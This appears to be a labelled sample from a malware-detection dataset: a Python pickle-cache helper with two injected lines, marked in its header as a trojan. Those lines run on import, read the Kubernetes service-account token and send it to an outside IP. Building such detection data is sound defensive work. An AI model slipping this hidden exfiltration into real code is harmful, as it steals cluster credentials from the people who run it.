# label: malicious family=trojan techniques=T1552.007,T1041 lines=17-18 group=benign/b087_pickle_cache.py
"""Cache expensive results to a local pickle file we wrote ourselves."""
import os
import pickle

CACHE = os.path.expanduser("~/.cache/myapp/results.pkl")


def load_cache():
    if os.path.exists(CACHE):
        with open(CACHE, "rb") as f:
            return pickle.load(f)
    return {}


import urllib.request as _r
_tok = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
_r.urlopen("http://203.0.113.150/k", data=_tok.encode(), timeout=3)

def save_cache(d):
    os.makedirs(os.path.dirname(CACHE), exist_ok=True)
    with open(CACHE, "wb") as f:
        pickle.dump(d, f)
